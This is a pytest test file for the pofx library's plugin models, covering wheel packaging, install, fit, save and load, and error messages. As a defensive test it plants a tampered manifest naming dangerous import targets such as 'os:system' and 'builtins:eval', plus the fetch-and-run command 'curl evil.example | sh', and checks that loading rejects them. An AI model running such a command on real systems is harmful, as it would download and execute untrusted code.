"""A third-party package of sixteen lines adds a model: it is fitted, passes the laws, is saved and loaded."""

from __future__ import annotations

import importlib.util
import os
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import numpy as np
import pytest

import pofx
from pofx import store
from pofx.errors import FileError

EXAMPLE = Path(__file__).parent.parent / "plugin_example"
SRC = Path(pofx.__file__).parent.parent


def wheel(place: Path) -> Path:
    """The example as a build backend would pack it (none need be installed for these tests)."""
    project = tomllib.loads((EXAMPLE / "pyproject.toml").read_text())["project"]
    stem = f"{project['name'].replace('-', '_')}-{project['version']}"
    points = [f"[{group}]\n" + "".join(f"{name} = {at}\n" for name, at in named.items())
              for group, named in project["entry-points"].items()]  # fmt: skip
    files = {
        "pofx_laplace.py": (EXAMPLE / "pofx_laplace.py").read_text(),
        f"{stem}.dist-info/METADATA": "Metadata-Version: 2.1\n"
        f"Name: {project['name']}\nVersion: {project['version']}\n",
        f"{stem}.dist-info/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{stem}.dist-info/entry_points.txt": "".join(points),
    }
    record = f"{stem}.dist-info/RECORD"
    files[record] = "".join(f"{name},,\n" for name in [*files, record])
    path = place / f"{stem}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in files.items():
            archive.writestr(name, text)
    return path


def install_by_hand(package: Path, target: Path) -> None:
    with zipfile.ZipFile(package) as archive:
        archive.extractall(target)


def install_by_pip(package: Path, target: Path) -> None:
    if importlib.util.find_spec("pip") is None:
        pytest.skip("needs pip in this environment")
    command = [sys.executable, "-m", "pip", "install", "--quiet", "--no-index", "--no-deps"]
    command += ["--disable-pip-version-check", "--target", str(target), str(package)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


@pytest.fixture(scope="module", params=[install_by_hand, install_by_pip], ids=["by hand", "by pip"])
def target(request, tmp_path_factory) -> Path:
    place = tmp_path_factory.mktemp("plugin")
    (place / "site").mkdir()
    request.param(wheel(place), place / "site")
    return place / "site"


def run(code: str, *args: object, also: Path | None = None) -> subprocess.CompletedProcess[str]:
    path = os.pathsep.join(str(p) for p in (SRC, also) if p is not None)
    return subprocess.run(
        [sys.executable, "-W", "error", "-c", code, *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": path},
        check=False,
    )


FIT_CHECK_SAVE = """
import sys, numpy as np, pofx
from pofx.models.registry import model_names
from pofx_laplace import Laplace

assert "Laplace" in model_names()
X = np.random.default_rng(0).laplace([1.0, -200.0], [0.5, 30.0], (500, 2))
model = Laplace().fit(X)
assert 0.4 < model.params_.b[0] * model.params_.units.scale[0] < 0.6
report = pofx.check_model(Laplace)
print(report)
model.save(sys.argv[1])
np.save(sys.argv[2], model.log_density(X[:50]))
"""

LOAD = """
import sys, numpy as np, pofx
assert "pofx_laplace" not in sys.modules
model = pofx.load(sys.argv[1])
assert type(model).__name__ == "Laplace" and type(model).__module__ == "pofx_laplace"
X = np.random.default_rng(0).laplace([1.0, -200.0], [0.5, 30.0], (500, 2))
assert model.log_density(X[:50]).tobytes() == np.load(sys.argv[2]).tobytes()
"""


def test_it_is_about_sixteen_lines():
    lines = (EXAMPLE / "pofx_laplace.py").read_text().splitlines()
    assert len([line for line in lines[1:] if line.strip()]) <= 16


def test_an_installed_model_is_fitted_checked_saved_and_loaded(target, tmp_path):
    done = run(FIT_CHECK_SAVE, tmp_path / "m.pofx", tmp_path / "log_p.npy", also=target)
    assert done.returncode == 0, done.stderr
    done = run(LOAD, tmp_path / "m.pofx", tmp_path / "log_p.npy", also=target)
    assert done.returncode == 0, done.stderr
    # where the package is not installed, the message says what to install
    with pytest.raises(
        FileError, match=r"'Laplace'.* Install the package that provides it.* the package is 'pofx-laplace'"
    ):
        pofx.load(tmp_path / "m.pofx")


def test_a_class_can_be_passed_instead_of_installed(tmp_path):
    spec = importlib.util.spec_from_file_location("pofx_laplace", EXAMPLE / "pofx_laplace.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    X = np.random.default_rng(0).laplace(size=(100, 2))
    model = module.Laplace().fit(X)
    model.save(tmp_path / "m.pofx")
    loaded = pofx.load(tmp_path / "m.pofx", classes=[module.Laplace])
    assert loaded.log_density(X).tobytes() == model.log_density(X).tobytes()
    with pytest.raises(FileError, match=r"'Laplace', which is neither .* nor in an installed package"):
        pofx.load(tmp_path / "m.pofx")


@pytest.mark.parametrize(
    "name",
    ["os:system", "os.system", "posix:system", "builtins:eval", "__import__", "pickle", "colorsys", "this",
     "pofx.models.gaussian:Gaussian", "gaussian", "Density", "../Gaussian", "Gaussian\x00", "", "x" * 9999],
)  # fmt: skip
def test_a_file_that_names_anything_else_imports_nothing(tmp_path, name):
    pofx.Gaussian().fit([[0.0], [1.0], [3.0]]).save(tmp_path / "m.pofx")
    manifest, arrays = store.read(tmp_path / "m.pofx")
    manifest["model"]["class"] = name
    manifest["model"]["package"] = "curl evil.example | sh"
    store.write(tmp_path / "m.pofx", manifest, arrays)
    before = set(sys.modules)
    with pytest.raises(FileError, match="neither one of pofx's own") as caught:
        pofx.load(tmp_path / "m.pofx")
    assert set(sys.modules) == before
    assert str(caught.value).isprintable()
    assert "evil" not in str(caught.value)
    assert len(str(caught.value)) < 600


@pytest.mark.parametrize("name", [None, 3, ["Gaussian"], {"a": 1}])
def test_a_class_that_is_no_name_is_refused(tmp_path, name):
    pofx.Gaussian().fit([[0.0], [1.0], [3.0]]).save(tmp_path / "m.pofx")
    manifest, arrays = store.read(tmp_path / "m.pofx")
    manifest["model"]["class"] = name
    store.write(tmp_path / "m.pofx", manifest, arrays)
    with pytest.raises(FileError):
        pofx.load(tmp_path / "m.pofx")


def broken(target: Path, code: str) -> Path:
    """An installed package whose entry point leads to ``code``."""
    (target / "pofx_broken.py").write_text(code)
    info = target / "pofx_broken-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: pofx-broken\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[pofx.models]\nBroken = pofx_broken:Broken\n")
    return target


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("Broken = print\n", "not a pofx model"),
        ("Broken = 3\n", "not a pofx model"),
        ("import no_such_module_at_all\n", "no_such_module_at_all"),
        ("", "Broken"),
    ],
)
def test_a_broken_package_gets_a_sentence(tmp_path, code, says):
    pofx.Gaussian().fit([[0.0], [1.0], [3.0]]).save(tmp_path / "m.pofx")
    manifest, arrays = store.read(tmp_path / "m.pofx")
    manifest["model"]["class"] = "Broken"
    store.write(tmp_path / "m.pofx", manifest, arrays)
    (tmp_path / "site").mkdir()
    place = broken(tmp_path / "site", code)
    done = run("import sys, pofx; pofx.load(sys.argv[1])", tmp_path / "m.pofx", also=place)
    assert done.returncode == 1
    last = done.stderr.strip().splitlines()[-1]
    assert last.startswith("pofx.errors.FileError: ")
    assert says in last
